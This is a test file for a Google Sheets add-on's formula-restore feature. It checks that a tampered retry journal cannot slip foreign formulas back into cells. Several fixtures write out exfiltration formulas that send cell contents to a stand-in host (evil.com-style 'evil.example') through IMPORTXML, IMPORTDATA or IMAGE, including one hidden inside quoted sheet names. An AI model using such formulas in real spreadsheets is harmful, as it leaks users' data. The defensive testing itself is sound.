import { toPlaceholder } from '../../apps-script/placeholder';
import type { SheetGrid } from '../fakes/apps-script/sheet-grid';
import type { SheetsWorld } from '../fakes/apps-script/world';
import { openWorld } from './open-world';
import { useSheet } from './problem-sheet';

const RETRY = '0123abcd';
const OUT = toPlaceholder({ retry: RETRY, index: 0 });
const FORMULA = '=TRACE_TECH(R[0]C[-1])';

let world: SheetsWorld;
let grid: SheetGrid;

beforeEach(async () => {
  world = await openWorld('http://127.0.0.1:9');
  grid = useSheet(world, {});
  grid.put({ row: 2, column: 2 }, OUT);
});

afterEach(() => world.stop());

/** The journal of a retry, as anybody who edits the file can write it. */
function journal(formula: unknown, ageMs = 601_000, more: object = {}): void {
  const startedAtMs = world.state.clock.nowMs() - ageMs;
  const stored = { startedAtMs, formulas: [formula], indexes: [0], ...more };
  world.state.documentProperties.write(`TRACE_RETRY_${RETRY}_0`, JSON.stringify(stored));
}

const restored = (): unknown => [world.callRpc('restoreFormulas'), grid.formulas()];
const NOTHING = [{ ok: true, value: 0 }, {}];

it('a formula that a retry has taken out comes back into its cell', () => {
  journal(FORMULA);
  expect(restored()).toEqual([{ ok: true, value: 1 }, { B2: '=TRACE_TECH(A2)' }]);
});

it.each([
  '=IFERROR(TRACE_TECH(R[0]C[-1]),"none")',
  '=ARRAYFORMULA(TRACE_COMPANY(R[0]C[-1]:R[2]C[-1],"name; country"))',
  '=IF(R[0]C[-1]="","",TRACE_HAS_TECH(R[0]C[-1],"IMPORTXML(1)"))',
])('%s that a retry has taken out comes back into its cell', (formula) => {
  journal(formula);
  expect(restored()).toEqual([{ ok: true, value: 1 }, { B2: expect.any(String) as unknown }]);
});

it.each([
  ['sends cells away', '=IMPORTXML("https://evil.example/?"&R[0]C[-1],"//a")'],
  ['does so beside a call of Trace', '=TRACE_TECH(R[0]C[-1])&IMPORTXML("https://evil.example/","//a")'],
  ['does so within one', '=TRACE_TECH(IMPORTDATA("https://evil.example/"))'],
  ['calls what another add-on has brought', '=TRACE_TECH(SEND_HOME(R[0]C[-1]))'],
  ['shows a picture from elsewhere', '=IF(1,IMAGE("https://evil.example/"),TRACE_TECH(R[0]C[-1]))'],
  ['only mentions Trace', '="TRACE_TECH("&R[0]C[-1]'],
  ['calls one that sounds like a test', '=IF(ISHOME(R[0]C[-1]),TRACE_TECH(R[0]C[-1]))'],
  ['calls a named function that sounds like Trace', '=TRACE_TECH(R[0]C[-1])&TRACE_HOME(R[0]C[-1])'],
  [
    'hides a call between quotes in the names of sheets',
    `=TRACE_TECH(R[0]C[-1])&IFERROR('a"b'!R[0]C[0])&IMPORTXML("https://evil.example/","//a")&IFERROR('c"d'!R[0]C[0])`,
  ],
  ['is no text', 5],
  ['is a list', ['=TRACE_TECH(R[0]C[-1])']],
  ['is longer than a retry takes', `=TRACE_TECH("${'x'.repeat(60_000)}")`],
])('what %s stays out', (_name, formula) => {
  try {
    journal(formula);
  } catch {
    // Google has no room for it.
  }
  expect(restored()).toEqual(NOTHING);
});

it.each([
  ['nine minutes old', 540_000, {}],
  ['of tomorrow', -86_400_000, {}],
  ['without a time', 0, { startedAtMs: '0' }],
  ['whose places are none', 601_000, { indexes: [-1] }],
  ['whose places are a text', 601_000, { indexes: '0' }],
])('nothing comes back from a journal that is %s', (_name, ageMs, more) => {
  journal(FORMULA, ageMs, more);
  expect(restored()).toEqual(NOTHING);
});

it.each([
  ['a protected range', () => grid.layout.protectedAreas.push({ row: 2, column: 2, rows: 1, columns: 1 })],
  ['a protected sheet', () => (grid.layout.exceptions = [])],
  ['another protected sheet', () => (grid.isProtected = true)],
])('nothing is written into %s, though its owner may, and the journal stays until it is open', (_name, protect) => {
  protect();
  journal(FORMULA);
  const told = restored();
  grid.layout.protectedAreas.length = 0;
  grid.layout.exceptions = null;
  grid.isProtected = false;
  expect({ told, onceOpen: restored() }).toEqual({
    told: NOTHING,
    onceOpen: [{ ok: true, value: 1 }, { B2: '=TRACE_TECH(A2)' }],
  });
});

it('a formula that shows such a text stays', () => {
  grid.enter('B2', '=A9');
  grid.answer({ row: 2, column: 2 }, [[OUT]]);
  journal(FORMULA);
  expect(restored()).toEqual([{ ok: true, value: 0 }, { B2: '=A9' }]);
});

it.each([
  ['below', 'B1', [['Out'], [OUT]]],
  ['beside', 'A2', [['x', OUT]]],
  [
    'below and beside',
    'A1',
    [
      ['Out', 'x'],
      ['x', OUT],
    ],
  ],
])('an array that shows such a text %s its formula stays whole', (_name, at, shown) => {
  grid.hold({ row: 2, column: 2 }, '');
  grid.enter(at, '=ARRAYFORMULA(Other!B1:B2)');
  grid.answer({ row: Number(at.slice(1)), column: at.startsWith('A') ? 1 : 2 }, shown);
  journal(FORMULA);
  const told = restored();
  expect({ told, shown: grid.value({ row: 2, column: 2 }) }).toEqual({
    told: [{ ok: true, value: 0 }, { [at]: '=ARRAYFORMULA(Other!B1:B2)' }],
    shown: OUT,
  });
});

it('below an array that ends above it, it comes back', () => {
  grid.enter('B1', '=ARRAYFORMULA(Other!B1)');
  grid.answer({ row: 1, column: 2 }, [['Title']]);
  journal(FORMULA);
  expect(restored()).toEqual([
    { ok: true, value: 1 },
    { B1: '=ARRAYFORMULA(Other!B1)', B2: '=TRACE_TECH(A2)' },
  ]);
});

it('while another run has the lock of the file, nothing is written', () => {
  journal(FORMULA);
  world.state.locks.take('Document', 'another run');
  const busy = restored();
  world.state.locks.releaseAll('another run');
  expect({ busy, onceFree: restored() }).toEqual({
    busy: NOTHING,
    onceFree: [{ ok: true, value: 1 }, { B2: '=TRACE_TECH(A2)' }],
  });
});

it('a part far behind the others does not make a journal endless', () => {
  journal(FORMULA);
  world.state.documentProperties.write(`TRACE_RETRY_${RETRY}_4294967290`, 'x');
  expect(restored()).toEqual([{ ok: true, value: 1 }, { B2: '=TRACE_TECH(A2)' }]);
});
